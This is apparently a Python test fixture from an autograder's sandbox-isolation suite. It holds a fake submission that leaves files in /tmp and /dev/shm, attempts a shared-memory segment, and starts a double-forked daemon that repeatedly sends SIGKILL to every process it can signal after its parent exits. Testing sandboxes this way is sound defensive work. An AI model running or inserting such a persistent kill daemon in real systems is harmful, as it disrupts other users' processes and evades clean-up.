"""Leaves things for the next submission graded by the same grading process: files in /tmp
and /dev/shm, a System V shared-memory segment (refused by the seccomp filter), and a daemon
(double fork, setsid) that waits for its own student process to end and then, for 20 s,
writes /tmp/a3-late and sends SIGKILL to every process it may signal. With a zygote, the
next submission's student process is forked from the same one: the zygote's clean-up must
leave it nothing (PROBE checks)."""

from attacks import PROBE

QUESTION = "rnn_step_forward"
MESSAGE = r"next_h: error"
NEXT_SOURCE = PROBE
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import ctypes, os, signal, time
    import numpy as np
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "a3-leftover"), "w") as fh:
                fh.write("the answers of the submission graded before")
        except OSError:
            pass
    try:
        ctypes.CDLL(None, use_errno=True).shmget(0, 4096, 0o1666)  # IPC_PRIVATE, IPC_CREAT | 0666
    except (OSError, AttributeError):
        pass
    owner = os.getpid()
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            deadline = time.time() + 60
            while os.path.exists(f"/proc/{owner}") and time.time() < deadline:
                time.sleep(0.05)
            end = time.time() + 20
            while time.time() < end:
                try:
                    with open("/tmp/a3-late", "w") as fh:
                        fh.write("late")
                except OSError:
                    pass
                try:
                    os.kill(-1, signal.SIGKILL)
                except OSError:
                    pass
                time.sleep(0.05)
        os._exit(0)
    os.waitpid(pid, 0)
    return np.zeros_like(prev_h), None
'''
